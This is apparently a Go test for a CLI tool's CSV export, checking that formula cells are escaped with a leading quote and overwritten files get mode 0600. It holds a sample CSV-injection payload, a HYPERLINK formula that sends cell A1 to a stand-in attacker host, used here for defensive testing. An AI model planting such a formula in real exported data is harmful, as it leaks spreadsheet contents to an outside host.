package cli

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/ledgerline/ledgerline/internal/store"
	"github.com/ledgerline/ledgerline/internal/warehouse"
)

// Issue 12: `ledgerline export` wrote formula cells as they were, and an
// overwritten file kept its old mode.
func TestExportCommandGuardsCellsAndTheFile(t *testing.T) {
	dir := t.TempDir()
	conn := sampleConnection(0)
	seed(t, dir, conn)
	const evil = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	func() {
		db, err := store.Open(context.Background(), store.Options{Dir: dir})
		if err != nil {
			t.Fatal(err)
		}
		defer db.Close()
		wh, err := warehouse.New(warehouse.Options{DB: db})
		if err != nil {
			t.Fatal(err)
		}
		ty, _ := warehouse.TypeByName("customers")
		raw, _ := json.Marshal(map[string]any{"id": "cus_evil", "object": "customer", "created": 1_700_000_000, "livemode": false, "name": evil, "balance": -500})
		row, err := warehouse.Prepare(ty, raw, 1, false)
		if err != nil {
			t.Fatal(err)
		}
		if err := wh.Apply(context.Background(), conn.ID, ty, []warehouse.Row{row}, nil); err != nil {
			t.Fatal(err)
		}
	}()
	out := filepath.Join(t.TempDir(), "customers.csv")
	if err := os.WriteFile(out, []byte("an old export"), 0o644); err != nil {
		t.Fatal(err)
	}
	_ = os.Chmod(out, 0o644)
	name := func() (string, os.FileMode) {
		t.Helper()
		data, err := os.ReadFile(out)
		if err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(strings.NewReader(string(data))).ReadAll()
		if err != nil || len(recs) != 2 {
			t.Fatalf("%d records, %v: %s", len(recs), err, data)
		}
		fi, _ := os.Stat(out)
		for i, h := range recs[0] {
			if h == "name" {
				return recs[1][i], fi.Mode().Perm()
			}
		}
		t.Fatalf("no name column: %v", recs[0])
		return "", 0
	}

	code, _, errOut := runCLI(t, Env{}, "--data-dir", dir, "export", "customers", "--csv", out)
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	got, mode := name()
	if got != "'"+evil {
		t.Errorf("name = %q, want it behind a leading '", got)
	}
	if runtime.GOOS != "windows" && mode != 0o600 {
		t.Errorf("the overwritten file is %v, want 0600", mode)
	}

	code, _, errOut = runCLI(t, Env{}, "--data-dir", dir, "export", "customers", "--raw-cells", "--csv", out)
	if code != 0 {
		t.Fatalf("--raw-cells: exit %d: %s", code, errOut)
	}
	if got, _ := name(); got != evil {
		t.Errorf("--raw-cells name = %q, want it as stored", got)
	}
}
